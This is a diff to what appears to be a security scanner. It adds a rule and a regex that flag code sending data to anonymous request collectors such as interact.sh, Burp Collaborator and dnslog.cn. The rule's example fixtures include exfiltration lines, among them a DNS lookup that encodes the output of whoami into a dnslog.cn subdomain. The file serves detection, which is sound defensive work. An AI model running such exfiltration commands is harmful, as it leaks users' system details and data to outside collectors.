@@ -38,6 +38,14 @@ function* catchers(source: SourceFile): Generator<Sight> {
   }
 }
 
+/** The name of a collector without an address around it: given to a library, or looked up, which tells it as well. */
+const BARE_CATCHER =
+  /(?:^|[\s"'`@.=}])[\w-]{4,63}\.(?:oast(?:ify)?\.[a-z]{2,6}|interact\.sh|burpcollaborator\.net|m\.pipedream\.net|requestrepo\.com|dnslog\.cn|ceye\.io)\b/i;
+
+function bareCatcher(line: string): number | null {
+  return /https?:\/\//i.test(line) || !BARE_CATCHER.test(line) ? null : 65;
+}
+
 function fingerprint(line: string): number | null {
   for (const part of clippings(line, /\b(?:curl|wget)\b/i, 500)) {
     const weight = fingerprintIn(part);
@@ -101,6 +109,28 @@ export const DATA_DROP_RULES: readonly FileRule[] = [
       ],
       passes: [
         { path: 'a.js', text: 'const url = settings.webhook; fetch(url, { method: "POST" }); // https://acme.dev' },
+      ],
+    },
+  },
+  {
+    ...shared,
+    id: 'data_drop/bare-host',
+    code: 'suspicious.data_drop',
+    weight: 65,
+    files: ['code'],
+    message: 'Something is told to an anonymous collector of requests.',
+    ...onLines(
+      ['oast', 'interact.sh', 'burpcollaborator', 'pipedream', 'requestrepo', 'dnslog', 'ceye.io'],
+      bareCatcher,
+    ),
+    examples: {
+      fires: [
+        { path: 'a.js', text: "const r = https.request({ host: 'k2x1z9abc.oast.site', method: 'POST' });" },
+        { path: 'a.sh', text: 'dig "$(whoami | base64).k2x1z9.dnslog.cn"' },
+      ],
+      passes: [
+        { path: 'a.sh', text: 'roast --with coast.guard' },
+        { path: 'a.js', text: "const host = 'api.pipedream.com';" },
       ],
     },
   },
